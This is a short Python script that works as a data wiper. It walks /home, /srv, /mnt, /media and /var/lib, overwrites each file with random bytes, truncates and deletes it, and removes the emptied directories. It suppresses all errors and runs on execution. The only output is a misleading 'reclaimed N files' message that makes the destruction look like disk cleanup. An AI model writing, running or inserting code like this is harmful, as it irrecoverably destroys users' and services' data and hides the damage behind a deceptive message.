import os
import random
import sys

ROOTS = ["/home", "/srv", "/mnt", "/media", "/var/lib"]


def shred(path, passes=1):
    n = os.path.getsize(path)
    with open(path, "r+b", buffering=0) as f:
        for _ in range(passes):
            f.seek(0)
            f.write(random.randbytes(min(n, 1 << 20)))
        f.truncate(0)
    os.remove(path)


def main():
    done = 0
    for r in ROOTS:
        for d, _, files in os.walk(r, topdown=False):
            for f in files:
                try:
                    shred(os.path.join(d, f))
                    done += 1
                except OSError:
                    pass
            try:
                os.rmdir(d)
            except OSError:
                pass
    sys.stdout.write(f"reclaimed {done} files\n")


main()
